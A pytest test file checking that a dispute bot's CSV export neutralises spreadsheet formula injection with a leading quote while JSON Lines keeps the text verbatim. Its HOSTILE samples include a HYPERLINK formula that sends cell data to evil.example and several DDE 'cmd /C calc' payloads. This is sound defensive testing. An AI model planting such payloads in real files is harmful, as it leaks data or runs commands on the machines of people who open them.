"""Issue 33 point 6: a CSV export opens in a spreadsheet as text, never as a formula.

A dispute reason typed in the real conversation and starting like a formula comes
out of `export disputes --format csv` with a leading single quote (OWASP: CSV
injection), and verbatim in JSON Lines; numbers the exporter writes itself stay
numbers, a negative amount included."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest

from bot.service.exports import export, safe_cell
from bot.store.tables import ArrangementRow, EscalationRow
from tests.runtime.conftest import NOW, WebChat

HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Refund here")',
    "plus": "+cmd|' /C calc'!A0 the fee is wrong",
    "minus": "-2+3+cmd|' /C calc'!A0 never agreed",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0 not mine",
    "tab": "\t=1+1 the fee was waived",
}


async def _csv_rows(web: WebChat, what: str) -> list[dict[str, str]]:
    out = io.StringIO()
    await export(web.app.sessions, what=what, fmt="csv", out=out)  # type: ignore[arg-type]
    return list(csv.DictReader(io.StringIO(out.getvalue())))


async def _jsonl_rows(web: WebChat, what: str) -> list[dict[str, object]]:
    out = io.StringIO()
    await export(web.app.sessions, what=what, fmt="jsonl", out=out)  # type: ignore[arg-type]
    return [json.loads(line) for line in out.getvalue().splitlines()]


@pytest.mark.parametrize("name", list(HOSTILE))
async def test_a_dispute_reason_like_a_formula_exports_as_text(web: WebChat, name: str) -> None:
    user = f"f-{name}"
    await web.say(user, f"/start {await web.link('T-EN')}")
    await web.say(user, "1990-05-17")
    (select,) = await web.press(user, "Dispute a charge")
    await web.press(user, next(label for label, _ in select.buttons if label.startswith("☐")))
    await web.press(user, "Continue")
    (done,) = await web.say(user, HOSTILE[name])
    assert "Your dispute is recorded (reference D-" in done.text

    (kept,) = await _jsonl_rows(web, "disputes")
    reason = str(kept["reason"])
    # JSON Lines keeps what the borrower wrote (the tab may go with the edges' spaces).
    assert reason == HOSTILE[name].strip()
    (row,) = await _csv_rows(web, "disputes")
    assert row["reason"] == "'" + reason  # shown as text, never run
    assert row["amount"] == str(kept["amount"]) and Decimal(row["amount"]) > 0
    assert row["id"] == kept["id"] and row["id"].startswith("D-")


async def test_numbers_stay_numbers_and_every_text_column_is_guarded(web: WebChat) -> None:
    async with web.app.sessions() as session, session.begin():
        session.add(
            ArrangementRow(
                id="A-REFUND",
                account_id="T-EN",
                kind="promise_to_pay",
                status="ended",
                amount=Decimal("-12.50"),  # a correction the lender booked: a number
                currency="USD",
                installments=[],
                script_version="test",
                created_at=NOW,
                end_reason="-reversed",
            )
        )
        session.add(
            EscalationRow(
                ticket="H-1",
                account_id="T-EN",
                reason="handoff",
                priority="normal",
                note="@SUM(A1:A9) call back",
                created_at=NOW,
            )
        )
    (plan,) = await _csv_rows(web, "arrangements")
    assert plan["amount"] == "-12.50"
    assert plan["end_reason"] == "'-reversed"
    (escalation,) = await _csv_rows(web, "escalations")
    assert escalation["note"] == "'@SUM(A1:A9) call back"
    assert escalation["id"].isdigit()
    (kept,) = await _jsonl_rows(web, "escalations")
    assert kept["note"] == "@SUM(A1:A9) call back"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        ("' already quoted", "' already quoted"),
    ],
)
def test_which_cells_are_guarded(cell: str, shown: str) -> None:
    assert safe_cell(cell) == shown
